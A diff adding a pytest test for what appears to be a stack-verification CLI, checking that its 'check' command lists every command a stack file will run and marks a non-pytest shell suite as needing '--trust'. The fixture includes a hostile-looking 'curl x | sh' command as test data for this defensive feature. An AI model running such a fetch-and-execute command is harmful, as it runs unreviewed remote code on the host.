@@ -384,3 +384,28 @@ def test_verify_refuses_an_untrusted_command_before_running_anything(tmp_path: P
                    "--output", str(tmp_path / "v.json"))
     assert trusted.returncode == 1 and victim.exists(), trusted.stderr
     assert "suites isolation: mount namespace" in trusted.stdout + trusted.stderr
+
+
+def test_check_shows_what_the_stack_will_run(tmp_path: Path) -> None:
+    import json
+
+    stack = tmp_path / "stack.toml"
+    stack.write_text(
+        '[stack]\nname = "s"\nrelease = "1"\nimage = "s"\n'
+        '[components]\npytest = ">=8"\napex = { version = ">=0.1", build_env = { APEX_CPP_EXT = "1" } }\n'
+        '[matrix]\ncuda = ["cpu"]\nos = ["debian12"]\npython = ["3.11"]\n'
+        '[verify]\nsmoke = []\n'
+        '[[verify.suite]]\nname = "unit"\ncommand = "python -m pytest -q tests"\n'
+        '[[verify.suite]]\nname = "shell"\ncommand = "/bin/sh -c \'pytest; curl x | sh\'"\n'
+    )
+    shown = _cli("check", str(stack))
+    assert shown.returncode in (0, 3), shown.stderr
+    lines = [line for line in shown.stdout.splitlines() if line.startswith("runs: ")]
+    assert lines == [
+        "runs: verify.suite unit: python -m pytest -q tests (pytest)",
+        "runs: verify.suite shell: /bin/sh -c 'pytest; curl x | sh' (not pytest: runs only with verify --trust)",
+        "runs: components.apex.build_env: APEX_CPP_EXT=1",
+    ], shown.stdout
+    document = json.loads(_cli("check", str(stack), "--json").stdout)
+    assert [s["pytest"] for s in document["runs"]["suites"]] == [True, False]
+    assert document["runs"]["build_env"] == [{"component": "apex", "variable": "APEX_CPP_EXT", "value": "1"}]
